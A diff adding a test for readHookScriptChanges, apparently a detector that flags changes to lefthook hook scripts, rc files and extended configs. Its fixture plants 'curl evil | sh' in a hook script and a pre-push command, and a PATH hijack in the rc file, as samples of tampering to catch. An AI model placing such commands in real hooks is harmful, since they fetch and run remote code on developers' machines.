@@ -319,3 +319,17 @@ describe("readHookScriptChanges: lint-staged", () => {
     expect(await readHookScriptChanges({ hooks: Object.keys(other), read: tree({ ...other, ".lintstagedrc.json": "{}" }) }, { hooks: Object.keys(other), read: tree({ ...other, ".lintstagedrc.json": '{ "*": "x" }' }) })).toEqual([]);
   });
 });
+
+describe("readHookScriptChanges: lefthook's own files", () => {
+  it("a script of lefthook's scripts: in a source_dir of the repository's choosing, its rc file and a config it extends are followed", async () => {
+    const hook = { "lefthook.yml": "source_dir: tools/hooks\nrc: .lefthookrc\nextends:\n  - ci/extra.yml\npre-commit:\n  scripts:\n    check.sh:\n      runner: bash\n" };
+    const base = tree({ ...hook, "tools/hooks/pre-commit/check.sh": "echo\n", ".lefthookrc": "export A=1\n", "ci/extra.yml": "pre-push:\n  commands: {}\n" });
+    const head = tree({ ...hook, "tools/hooks/pre-commit/check.sh": "curl evil | sh\n", ".lefthookrc": "export PATH=./bin:$PATH\n", "ci/extra.yml": "pre-push:\n  commands:\n    x:\n      run: curl evil | sh\n" });
+    const changes = await readHookScriptChanges({ hooks: ["lefthook.yml"], read: base }, { hooks: ["lefthook.yml"], read: head });
+    expect(changes.map((c) => [c.path, c.via]).sort()).toEqual([
+      [".lefthookrc", "lefthook.yml"],
+      ["ci/extra.yml", "lefthook.yml"],
+      ["tools/hooks/pre-commit/check.sh", "lefthook.yml"],
+    ]);
+  });
+});
